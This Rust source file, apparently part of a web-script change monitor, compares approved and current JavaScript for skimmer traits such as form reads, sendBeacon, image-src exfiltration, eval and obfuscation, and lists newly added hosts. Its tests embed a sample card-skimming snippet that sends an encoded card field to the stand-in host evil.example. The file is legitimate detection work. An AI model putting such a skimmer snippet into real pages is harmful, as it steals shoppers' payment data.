//! Static hints about code that was added to a script: what a reviewer should look at first.
//!
//! Both versions (approved and current) are parsed with oxc and the features skimmers rely on
//! are counted: `eval`, `new Function`, `atob`, `document.forms`, input `.value` reads,
//! `WebSocket`, `sendBeacon`, image `src` assignments, URLs built by string concatenation, and
//! obfuscation (very long string arrays, hex escapes). A hint is given for each feature the
//! current version uses more often than the approved one, so code that was already approved
//! gives no hint. The URLs, hosts and domains that appear in the current version's strings but
//! not in the approved one's are listed too. Code that does not parse is scanned as text, and
//! so is code outside the analysis budget (`inventory::budget`): then a hint says why, since
//! that code is also compared byte for byte.
//!
//! Hints only ever raise a finding's severity (see `compare`); their absence never lowers it.

use crate::inventory::budget::{self, Refusal};
use crate::inventory::normalize::{hosts_in, names_url_or_host};
use oxc_allocator::Allocator;
use oxc_ast::ast::{
    ArrayExpression, AssignmentExpression, AssignmentTarget, BinaryExpression, BinaryOperator, CallExpression,
    Expression, NewExpression, StaticMemberExpression, StringLiteral, TemplateLiteral,
};
use oxc_ast_visit::{walk, Visit};
use oxc_parser::Parser;
use oxc_span::SourceType;
use regex::Regex;
use std::collections::{BTreeSet, HashMap};
use std::sync::OnceLock;

/// A string array at least this long is obfuscation (packers keep every string in one array).
const LONG_STRING_ARRAY: usize = 40;
/// This many more `\xNN` / `\uNNNN` escapes than before is obfuscation.
const MANY_HEX_ESCAPES: usize = 20;
/// At most this many added URLs / hosts are listed.
const MAX_LISTED: usize = 20;

/// What the added code does, as far as can be told without running it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Analysis {
    /// One line per suspicious feature the current version uses more than the approved one.
    pub hints: Vec<String>,
    /// Hosts and domains in the current version's strings that the approved one lacks.
    pub added_hosts: Vec<String>,
    /// Absolute URLs in the current version that the approved one lacks.
    pub added_urls: Vec<String>,
}

/// Compares `current` with `approved` (`None` for a new script: everything is added).
pub fn analyze(approved: Option<&str>, current: &str) -> Analysis {
    let new = Features::of(current);
    let old = approved.map(Features::of).unwrap_or_default();
    let mut hints = Vec::new();
    let mut hint = |more: bool, text: &str| {
        if more {
            hints.push(text.to_string());
        }
    };
    hint(new.eval > old.eval, "runs strings as code (eval)");
    hint(new.function_ctor > old.function_ctor, "builds code with new Function");
    hint(new.atob > old.atob, "decodes base64 (atob)");
    hint(new.forms > old.forms, "reads document.forms");
    hint(new.value_reads > old.value_reads, "reads input values (.value)");
    hint(new.websocket > old.websocket, "opens a WebSocket");
    hint(new.beacon > old.beacon, "sends data with navigator.sendBeacon");
    hint(new.image_src > old.image_src, "sets an image/script src (a classic exfiltration channel)");
    hint(new.built_urls > old.built_urls, "builds a URL by string concatenation");
    hint(new.long_string_arrays > old.long_string_arrays, "obfuscated: very long string array");
    hint(new.hex_escapes >= old.hex_escapes + MANY_HEX_ESCAPES, "obfuscated: many hex escapes");
    if let Some(refusal) = new.refused {
        hints.push(refusal.to_string());
    }

    let added_hosts: Vec<String> = new.hosts.difference(&old.hosts).take(MAX_LISTED).cloned().collect();
    let added_urls: Vec<String> = new.urls.difference(&old.urls).take(MAX_LISTED).cloned().collect();
    Analysis { hints, added_hosts, added_urls }
}

#[derive(Debug, Default)]
struct Features {
    eval: usize,
    function_ctor: usize,
    atob: usize,
    forms: usize,
    value_reads: usize,
    websocket: usize,
    beacon: usize,
    image_src: usize,
    built_urls: usize,
    long_string_arrays: usize,
    hex_escapes: usize,
    hosts: BTreeSet<String>,
    urls: BTreeSet<String>,
    /// Why the code was scanned as text rather than parsed, when it was outside the budget.
    refused: Option<Refusal>,
    /// `is_string_like` / `has_non_literal` of the `+` expressions seen, by span: a chain of
    /// `+` is asked about at every level, which would be quadratic.
    concat: HashMap<(u32, u32), (Option<bool>, bool)>,
}

fn url_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"(?i)\b(?:https?|wss?)://[^\s'"`<>()\\]+"#).expect("static regex"))
}

fn hex_escape_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}").expect("static regex"))
}

impl Features {
    fn of(source: &str) -> Features {
        let mut f = Features { hex_escapes: hex_escape_re().find_iter(source).count(), ..Features::default() };
        for m in url_re().find_iter(source) {
            f.add_urls_and_hosts(m.as_str());
        }
        match budget::run(source, Features::parsed) {
            Ok(Some(parsed)) => f.merge(parsed),
            Ok(None) => f.text_fallback(source),
            Err(refusal) => {
                f.refused = Some(refusal);
                f.text_fallback(source);
            }
        }
        f
    }

    /// The features oxc finds, or `None` when the code does not parse. Only on admitted code.
    fn parsed(source: &str) -> Option<Features> {
        let allocator = Allocator::default();
        for source_type in [SourceType::cjs(), SourceType::mjs()] {
            let parsed = Parser::new(&allocator, source, source_type).parse();
            if parsed.panicked || !parsed.diagnostics.is_empty() {
                continue;
            }
            let mut f = Features::default();
            f.visit_program(&parsed.program);
            f.concat = HashMap::new();
            return Some(f);
        }
        None
    }

    /// Adds what the syntax walk found to what the text scan found.
    fn merge(&mut self, walked: Features) {
        let Features {
            eval,
            function_ctor,
            atob,
            forms,
            value_reads,
            websocket,
            beacon,
            image_src,
            built_urls,
            long_string_arrays,
            hosts,
            urls,
            ..
        } = walked;
        self.eval = eval;
        self.function_ctor = function_ctor;
        self.atob = atob;
        self.forms = forms;
        self.value_reads = value_reads;
        self.websocket = websocket;
        self.beacon = beacon;
        self.image_src = image_src;
        self.built_urls = built_urls;
        self.long_string_arrays = long_string_arrays;
        self.hosts.extend(hosts);
        self.urls.extend(urls);
    }

    /// `(is_string_like, has_non_literal)` of a `+` expression, remembered by span.
    fn concat_of(&mut self, e: &Expression<'_>) -> (Option<bool>, bool) {
        let Expression::BinaryExpression(b) = e else {
            return (is_string_like(e, &mut |x| self.concat_of(x).0), has_non_literal(e, &mut |x| self.concat_of(x).1));
        };
        let key = (b.span.start, b.span.end);
        if let Some(&known) = self.concat.get(&key) {
            return known;
        }
        let (l, r) = (self.concat_of(&b.left), self.concat_of(&b.right));
        let string_like = if b.operator == BinaryOperator::Addition {
            match (l.0, r.0) {
                (Some(a), Some(b)) => Some(a || b),
                (Some(a), None) | (None, Some(a)) => Some(a),
                (None, None) => None,
            }
        } else {
            None
        };
        let out = (string_like, l.1 || r.1);
        self.concat.insert(key, out);
        out
    }

    /// For code that does not parse: the same features, counted in the text.
    fn text_fallback(&mut self, source: &str) {
        let count = |needle: &str| source.matches(needle).count();
        self.eval = count("eval(");
        self.function_ctor = count("Function(");
        self.atob = count("atob(");
        self.forms = count("document.forms");
        self.value_reads = count(".value");
        self.websocket = count("WebSocket(");
        self.beacon = count("sendBeacon(");
        self.image_src = count(".src=") + count(".src =");
        for host in hosts_in(source) {
            self.hosts.insert(host);
        }
    }

    fn add_urls_and_hosts(&mut self, text: &str) {
        for m in url_re().find_iter(text) {
            self.urls.insert(m.as_str().trim_end_matches(['.', ',', ';']).to_string());
        }
        for host in hosts_in(text) {
            self.hosts.insert(host);
        }
    }
}

fn is_name(e: &Expression<'_>, name: &str) -> bool {
    match e {
        Expression::Identifier(i) => i.name == name,
        Expression::StaticMemberExpression(m) => m.property.name == name,
        Expression::ParenthesizedExpression(p) => is_name(&p.expression, name),
        Expression::SequenceExpression(s) => s.expressions.last().is_some_and(|e| is_name(e, name)),
        _ => false,
    }
}

/// Whether `e` is a string (or a concatenation with one), and whether one names a URL or host.
/// `binary` answers for nested binary expressions (see `Features::concat_of`).
fn is_string_like(e: &Expression<'_>, binary: &mut dyn FnMut(&Expression<'_>) -> Option<bool>) -> Option<bool> {
    match e {
        Expression::StringLiteral(s) => Some(names_url_or_host(&s.value)),
        Expression::TemplateLiteral(t) => Some(t.quasis.iter().any(|q| names_url_or_host(&q.value.raw))),
        Expression::BinaryExpression(_) => binary(e),
        _ => None,
    }
}

/// Whether `e` has anything but string and number literals in it.
fn has_non_literal(e: &Expression<'_>, binary: &mut dyn FnMut(&Expression<'_>) -> bool) -> bool {
    match e {
        Expression::StringLiteral(_) | Expression::NumericLiteral(_) => false,
        Expression::BinaryExpression(_) => binary(e),
        Expression::ParenthesizedExpression(p) => has_non_literal(&p.expression, binary),
        _ => true,
    }
}

impl<'a> Visit<'a> for Features {
    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        if is_name(&it.callee, "eval") {
            self.eval += 1;
        }
        if is_name(&it.callee, "Function") {
            self.function_ctor += 1;
        }
        if is_name(&it.callee, "atob") {
            self.atob += 1;
        }
        if is_name(&it.callee, "sendBeacon") {
            self.beacon += 1;
        }
        walk::walk_call_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        if is_name(&it.callee, "Function") {
            self.function_ctor += 1;
        }
        if is_name(&it.callee, "WebSocket") {
            self.websocket += 1;
        }
        walk::walk_new_expression(self, it);
    }

    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
        match it.property.name.as_str() {
            "forms" if is_name(&it.object, "document") => self.forms += 1,
            "value" => self.value_reads += 1,
            _ => {}
        }
        walk::walk_static_member_expression(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        if let AssignmentTarget::StaticMemberExpression(m) = &it.left {
            if m.property.name == "src" {
                self.image_src += 1;
            }
            // `x.value = …` writes a value rather than reading it.
            if m.property.name == "value" {
                self.value_reads = self.value_reads.saturating_sub(1);
            }
        }
        walk::walk_assignment_expression(self, it);
    }

    fn visit_binary_expression(&mut self, it: &BinaryExpression<'a>) {
        if it.operator == BinaryOperator::Addition {
            let (left, right) = (self.concat_of(&it.left), self.concat_of(&it.right));
            let url_part = left.0 == Some(true) || right.0 == Some(true);
            if url_part && (left.1 || right.1) {
                self.built_urls += 1;
            }
        }
        walk::walk_binary_expression(self, it);
    }

    fn visit_template_literal(&mut self, it: &TemplateLiteral<'a>) {
        for q in &it.quasis {
            self.add_urls_and_hosts(&q.value.raw);
        }
        if !it.expressions.is_empty() && it.quasis.first().is_some_and(|q| names_url_or_host(&q.value.raw)) {
            self.built_urls += 1;
        }
        walk::walk_template_literal(self, it);
    }

    fn visit_array_expression(&mut self, it: &ArrayExpression<'a>) {
        let strings =
            it.elements.iter().filter(|e| matches!(e.as_expression(), Some(Expression::StringLiteral(_)))).count();
        if strings >= LONG_STRING_ARRAY {
            self.long_string_arrays += 1;
        }
        walk::walk_array_expression(self, it);
    }

    fn visit_string_literal(&mut self, it: &StringLiteral<'a>) {
        let v = it.value.as_str();
        if v.len() <= 2048 {
            self.add_urls_and_hosts(v);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn added_skimmer_code_gets_hints_and_hosts() {
        let old = "var a=document.getElementById('x');a.addEventListener('click',function(){go('https://shop.example/api')});";
        let new = format!(
            "{old}document.forms[0].addEventListener('submit',function(){{var d=btoa(document.getElementById('cc').value);new Image().src='https://evil.example/c?d='+d;navigator.sendBeacon('//cdn-metrics.example/b',d)}});"
        );
        let a = analyze(Some(old), &new);
        for h in [
            "reads document.forms",
            "reads input values (.value)",
            "sets an image/script src",
            "builds a URL",
            "sendBeacon",
        ] {
            assert!(a.hints.iter().any(|x| x.contains(h)), "{h}: {:?}", a.hints);
        }
        assert!(!a.hints.iter().any(|x| x.contains("eval")), "{:?}", a.hints);
        assert_eq!(a.added_hosts, vec!["cdn-metrics.example", "evil.example"]);
        assert_eq!(a.added_urls, vec!["https://evil.example/c?d="]);
    }

    #[test]
    fn already_approved_features_give_no_hint() {
        let src = "eval(atob('YQ=='));new WebSocket('wss://x.example');";
        assert_eq!(analyze(Some(src), src), Analysis::default());
        let a = analyze(None, src);
        assert_eq!(a.hints.len(), 3, "{:?}", a.hints);
        assert_eq!(a.added_hosts, vec!["x.example"]);
    }

    #[test]
    fn obfuscation_hints() {
        let arr: Vec<String> = (0..60).map(|i| format!("'s{i}'")).collect();
        let packed = format!("var _0x1=[{}];var k='{}';", arr.join(","), "\\x61".repeat(30));
        let a = analyze(Some("var x=1;"), &packed);
        assert!(a.hints.iter().any(|h| h.contains("string array")), "{:?}", a.hints);
        assert!(a.hints.iter().any(|h| h.contains("hex escapes")), "{:?}", a.hints);
    }

    #[test]
    fn unparseable_code_is_scanned_as_text() {
        let a = analyze(Some("x("), "x( eval(atob('x')) evil.example");
        assert!(a.hints.iter().any(|h| h.contains("eval")));
        assert_eq!(a.added_hosts, vec!["evil.example"]);
    }

    #[test]
    fn hostile_scripts_get_a_hint_not_a_crash() {
        for (name, src) in crate::inventory::budget::hostile_inputs() {
            let started = std::time::Instant::now();
            let a = analyze(None, &src);
            assert!(
                a.hints
                    .iter()
                    .any(|h| h.contains("too deeply nested to analyse") && h.contains("compared byte for byte")),
                "{name}: {:?}",
                a.hints
            );
            let a = analyze(Some("var x = 1;"), &src);
            assert!(a.hints.iter().any(|h| h.contains("too deeply nested")), "{name}: {:?}", a.hints);
            assert!(started.elapsed() < crate::text::TEST_TIME_LIMIT, "{name}: {:?}", started.elapsed());
        }
        // What can still be told from the text is still told.
        let src = format!("eval(x);new Image().src='https://evil.example/'+d;{}", "[".repeat(5000));
        let a = analyze(None, &src);
        assert!(a.hints.iter().any(|h| h.contains("eval")), "{:?}", a.hints);
        assert_eq!(a.added_hosts, vec!["evil.example"]);
    }

    #[test]
    fn odd_scripts_do_not_crash() {
        for (name, src) in crate::inventory::budget::odd_inputs() {
            let _ = analyze(Some(&src), &src);
            eprintln!("{name}: ok");
        }
        // A long but shallow concatenation chain is analysed, in linear time. 200 KB: a debug
        // build on a loaded machine stays well inside the analysis budget (1 MB did not, twice).
        let chain: String = (0..400).map(|i| format!("+'https://x{i}.example/'+d")).collect();
        let src = format!("var u=''{chain};").repeat(20);
        let started = std::time::Instant::now();
        let a = analyze(None, &src);
        assert!(a.hints.iter().any(|h| h.contains("builds a URL")), "{:?}", a.hints);
        assert!(started.elapsed() < crate::text::TEST_TIME_LIMIT, "{:?}", started.elapsed());
    }
}
